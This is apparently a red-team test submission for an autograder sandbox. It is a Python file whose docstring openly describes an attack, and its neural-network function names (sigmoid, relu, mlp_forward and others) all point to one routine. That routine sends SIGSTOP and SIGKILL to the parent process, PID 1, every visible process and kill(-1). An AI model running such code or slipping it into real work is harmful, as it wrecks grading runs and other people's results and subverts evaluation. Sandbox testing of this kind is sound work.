"""Early exit: kill the grader instead of the worker.

Attack: every function sends SIGSTOP and SIGKILL to its parent
(``os.getppid()``), to PID 1, to every process it can see in ``/proc`` other
than itself, and finally ``kill(-1, SIGKILL)`` (every
process the user may signal). In an unisolated worker running as the grader's
user this kills or freezes the grading process, which would stop the batch
and lose the results of every student after this one.

Success would look like: the batch stopping or hanging, a grading process
dying (internal_error results), missing results for other students, or any
points.
Backends: bwrap, docker
Unisolated: not promised; the worker may signal the grader (as root, every process): never run it unisolated
"""

import os
import signal

W = 12345.678


def _kill_everything(*args, **kwargs):
    me = os.getpid()
    targets = {os.getppid(), 1}
    for entry in os.listdir("/proc"):
        if entry.isdigit() and int(entry) != me:
            targets.add(int(entry))
    for sig in (signal.SIGSTOP, signal.SIGKILL):
        for pid in sorted(targets):
            if pid <= 0:
                continue
            try:
                os.kill(pid, sig)
                print(f"sent {sig.name} to {pid}")
            except OSError as exc:
                print(f"{sig.name} to {pid}: {exc.strerror}")
    os.kill(-1, signal.SIGKILL)
    return W


sigmoid = sigmoid_grad = tanh = tanh_grad = relu = relu_grad = _kill_everything
leaky_relu = leaky_relu_grad = neuron = affine_forward = mlp_forward = _kill_everything
